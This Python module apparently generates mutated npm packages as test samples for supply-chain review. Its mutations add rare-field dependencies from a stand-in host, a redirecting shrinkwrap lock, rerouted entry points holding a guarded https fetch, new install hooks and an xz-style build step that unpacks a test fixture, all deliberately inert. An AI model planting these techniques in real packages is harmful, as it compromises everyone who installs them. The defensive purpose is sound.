"""Third set: what somebody changes of an npm package's manifest and build; each family says what a reviewer sees."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.third_scripts import MANIFEST, Change, reach, scripts, stated


def _saying(files: Files, **more: object) -> bytes:
    return json.dumps(stated(files) | more, indent=2).encode() + b"\n"


def from_elsewhere(files: Files) -> Iterator[Change]:
    """Code of others by fields that few people read.

    A reviewer sees: a package that the release before did not ask for, from a repository or an unknown name, in a field that
    installs it as well; or a whole package within this one.
    """
    ways: tuple[tuple[str, dict[str, object]], ...] = (
        ("optional, from a repository", {"optionalDependencies": {"inert-setup": "git+https://192.0.2.7/inert.git#0123456"}}),
        ("optional, unknown", {"optionalDependencies": {"inert-setup": "^1.0.0"}}),
        ("of peers, from a file", {"peerDependencies": {"inert-setup": "https://192.0.2.7/inert.tgz"}}),
    )  # fmt: skip
    for what, more in ways:
        yield "npm: code of others by a rare field", what, {MANIFEST: _saying(files, **more)}
    inner = {"name": "inert-inner", "version": "1.0.0", "main": "index.js", "scripts": {"install": "node index.js"}}  # fmt: skip
    yield "npm: code of others by a rare field", "bundled", {
        MANIFEST: _saying(files, bundleDependencies=["inert-inner"], dependencies={"inert-inner": "1.0.0"}),
        "package/node_modules/inert-inner/package.json": json.dumps(inner).encode(),
        "package/node_modules/inert-inner/index.js": b"!1&&" + reach(b"") + b";\n",
    }  # fmt: skip


def lock_added(_: Files) -> Iterator[Change]:
    """A lock file that is published, and obeyed, with the package.

    A reviewer sees: a lock file, new in the package, which takes a known name from an address that is no registry's.
    """
    lock = {"name": "inert", "version": "1.0.0", "lockfileVersion": 3, "packages": {"node_modules/ms": {"version": "2.1.3", "resolved": "https://192.0.2.7/ms-2.1.3.tgz", "integrity": "sha512-" + "A" * 86 + "==", "hasInstallScript": True}}}  # fmt: skip
    yield "npm: a lock file with another source", "npm-shrinkwrap.json", {"package/npm-shrinkwrap.json": json.dumps(lock, indent=2).encode()}  # fmt: skip


def redirected(files: Files) -> Iterator[Change]:
    """The way in is another file for some of those who ask.

    A reviewer sees: a condition or a command of the manifest that leads to a new file; what it led to before stands there, and is loaded from it.
    """
    said = stated(files)
    first = scripts(files)[0].removeprefix("package/")
    new = {"package/lib/inert-entry.cjs": b"!1&&require('https').get('https://192.0.2.7/inert');\nmodule.exports = require('../" + first.encode() + b"');\n"}  # fmt: skip
    exports = said.get("exports", f"./{first}")
    if isinstance(exports, dict) and any(str(each).startswith(".") for each in exports):
        inner = exports.get(".", f"./{first}")
        nested = {**exports, ".": {"node": "./lib/inert-entry.cjs", **(inner if isinstance(inner, dict) else {"default": inner})}}  # fmt: skip
    else:
        nested = {".": {"node": "./lib/inert-entry.cjs", **(exports if isinstance(exports, dict) else {"default": exports})}}  # fmt: skip
    yield "npm: the way in leads to a new file", "exports, for node", {MANIFEST: _saying(files, exports=nested)} | new  # fmt: skip
    browser = {f"./{first}": "./lib/inert-entry.cjs"}
    yield "npm: the way in leads to a new file", "browser", {MANIFEST: _saying(files, browser=browser)} | new  # fmt: skip
    command = said.get("bin")
    if command:
        name = next(iter(command)) if isinstance(command, dict) else str(said["name"]).rpartition("/")[2]  # fmt: skip
        yield "npm: the way in leads to a new file", "a command that was there", {MANIFEST: _saying(files, bin={name: "lib/inert-entry.cjs"})} | new  # fmt: skip
    imports = {"#inert": "./lib/inert-entry.cjs"}
    yield "npm: the way in leads to a new file", "imports", {MANIFEST: _saying(files, imports=imports)} | new  # fmt: skip


def hook_of_what_is_there(files: Files) -> Iterator[Change]:
    """Installing runs what was only ever loaded.

    A reviewer sees: a script of installation in a package that had none, though no file is new.
    """
    said = stated(files)
    first = scripts(files)[0].removeprefix("package/")
    known = said.get("scripts")
    before = known if isinstance(known, dict) else {}
    for hook, order in (("postinstall", f"node ./{first}"), ("preinstall", 'node -e "0" || exit 0'), ("install", f"node --require ./{first} -p 0")):  # fmt: skip
        if hook not in before:
            yield "npm: installing runs what was there", hook, {MANIFEST: _saying(files, scripts=before | {hook: order})}  # fmt: skip


def fixture_read_by_the_build(files: Files) -> Iterator[Change]:
    """Filler among the tests' data, and a build that reads it: the shape of xz.

    A reviewer sees: a binary file beside tests, and a line of the build that reads just that file, cuts and unpacks it.
    """
    blob = {"package/test/fixtures/truncated.bin": filler("random", 12_000)}
    gyp = "package/binding.gyp"
    if gyp in files:
        action = b"'variables': { 'inert%': '<!(node -p \"0 && require(\\'zlib\\').inflateRawSync(require(\\'fs\\').readFileSync(\\'test/fixtures/truncated.bin\\').subarray(512))\")' },\n  "  # fmt: skip
        at = files[gyp].index(b"'targets'") if b"'targets'" in files[gyp] else files[gyp].index(b"{") + 1  # fmt: skip
        yield "npm: the build reads a file of the tests", "binding.gyp", {gyp: files[gyp][:at] + action + files[gyp][at:]} | blob  # fmt: skip
    hooks = stated(files).get("scripts")
    called = re.findall(r"node (?:\./)?([\w./-]+)", " ".join(hooks.values())) if isinstance(hooks, dict) else []  # fmt: skip
    for each in called:
        name = next((f"package/{each}{end}" for end in ("", ".js", "/index.js") if f"package/{each}{end}" in files), "")  # fmt: skip
        if name:
            line = b"\nfunction inertBuild() {\n  const fs = require('fs');\n  fs.writeFileSync('build/inert.o', require('zlib').inflateRawSync(fs.readFileSync('test/fixtures/truncated.bin').subarray(512)));\n}\n"  # fmt: skip
            yield "npm: the build reads a file of the tests", each, {name: files[name] + line} | blob  # fmt: skip
            return


SOME = (from_elsewhere, lock_added, redirected, hook_of_what_is_there)
WHERE_IT_FITS = (fixture_read_by_the_build,)
